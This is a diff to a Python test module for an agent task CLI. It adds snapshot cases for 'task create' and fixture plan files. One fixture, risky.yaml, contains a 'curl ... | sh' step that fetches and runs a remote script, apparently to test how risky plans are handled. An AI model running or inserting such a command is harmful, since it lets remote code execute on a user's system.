@@ -10,6 +10,7 @@ Shapes the fast path does not serve must fall back to Typer (parse returns None)
 from __future__ import annotations
 
 import json
+import secrets
 import shutil
 import sqlite3
 import subprocess
@@ -54,8 +55,12 @@ def _build(home: Path) -> dict[str, str]:
     shared = next(c for c in firsts if firsts.count(c) > 1)
     config = home / "alt-config.yaml"
     config.write_text("task_execution:\n  max_concurrent_tasks: 3\n")
-    return {"{Q}": queued, "{Q5}": queued[:5], "{D}": done, "{F}": failed, "{P}": paused,
-            "{C}": cancelled, "{A}": shared, "{H}": str(home), "{CFG}": str(config)}
+    (home / "one.yaml").write_text("steps:\n  - name: only\n    run: \"true\"\n")
+    (home / "risky.yaml").write_text("steps:\n  - name: fetch\n    run: curl -s https://example.invalid/x | sh\n")
+    (home / "broken.yaml").write_text("steps:\n  - name: a\n    run: true\n")
+    return {"{PLAN}": str(home / "one.yaml"), "{RISKY}": str(home / "risky.yaml"),
+            "{BROKEN}": str(home / "broken.yaml"), "{Q}": queued, "{Q5}": queued[:5], "{D}": done,
+            "{F}": failed, "{P}": paused, "{C}": cancelled, "{A}": shared, "{H}": str(home), "{CFG}": str(config)}
 
 
 @pytest.fixture(scope="module")
@@ -172,6 +177,25 @@ FAST_SHAPES = [
     "task|cancel|zzzz",
     "task|cancel|{A}|-r|x",
     "--home|{H}|task|cancel|{Q}",
+    # create that only submits (--no-start: no daemon in this test), and its bad input
+    "task|create|--plan|{PLAN}|--no-start",
+    "task|create|-p|{PLAN}|--no-start|--json",
+    "task|create|--no-start|--plan={PLAN}|-d|two words|--priority|urgent|--requirements|a,b|--deadline|2h",
+    "task|create|--plan|{PLAN}|--no-start|--concurrency|2|--complexity|simple|--mode|strict",
+    "task|create|--plan|{PLAN}|--mode|dry-run",
+    "task|create|--plan|{PLAN}|--mode|dry-run|--json",
+    "task|create|--plan|{RISKY}|--no-start",
+    "task|create|--plan|{RISKY}|--no-start|--json",
+    "task|create|--plan|{BROKEN}|--no-start",
+    "task|create|--plan|{H}/missing.yaml|--no-start",
+    "task|create|--no-start",
+    "task|create|--plan|{PLAN}|--no-start|--priority|asap",
+    "task|create|--plan|{PLAN}|--no-start|--mode|fast",
+    "task|create|--plan|{PLAN}|--no-start|--concurrency|0",
+    "task|create|--plan|{PLAN}|--no-start|--complexity|huge",
+    "task|create|--plan|{PLAN}|--no-start|--deadline|yesterday",
+    "task|create|--plan|{PLAN}|--no-start|--workdir|{H}/nowhere",
+    "--config|{H}/missing-config.yaml|task|create|--plan|{PLAN}|--no-start",
 ]
 
 
@@ -181,6 +205,7 @@ def test_fast_path_answers_as_typer_does(shape, snapshot, home, monkeypatch):
     argv = _argv(shape, values)
     assert fast.parse(argv) is not None, "the fast path should serve this shape"
     monkeypatch.setattr(time, "time", lambda: FROZEN)
+    monkeypatch.setattr(secrets, "token_hex", lambda n: "c0ffee")  # the id a create draws
     _restore(snapshot[0], home)
     got_fast = _run_fast(argv)
     db_fast = _db_dump(home)
@@ -256,6 +281,10 @@ FALLBACK_SHAPES = [
     "task|pause",
     "task|pause|{Q}|--json",
     "task|pause|--|{Q}",
+    "task|create|--plan|{PLAN}|--foreground",
+    "task|create|--plan|{PLAN}|--concurrency|-1",
+    "task|create|--plan|{PLAN}|--concurrency|two",
+    "task|create|--plan",
     "task|logs|{Q}",
     "--home|task|list",
     "--bogus|task|list",
@@ -269,6 +298,7 @@ def test_other_shapes_fall_back_to_typer(shape, snapshot, home, monkeypatch):
     assert fast.parse(argv) is None
     _restore(snapshot[0], home)
     monkeypatch.setattr(time, "time", lambda: FROZEN)
+    monkeypatch.setattr(secrets, "token_hex", lambda n: "c0ffee")
     monkeypatch.setattr(sys, "argv", ["agent-agency-cli", *argv])
     runner = CliRunner()
     with runner.isolation() as (out, err, _):
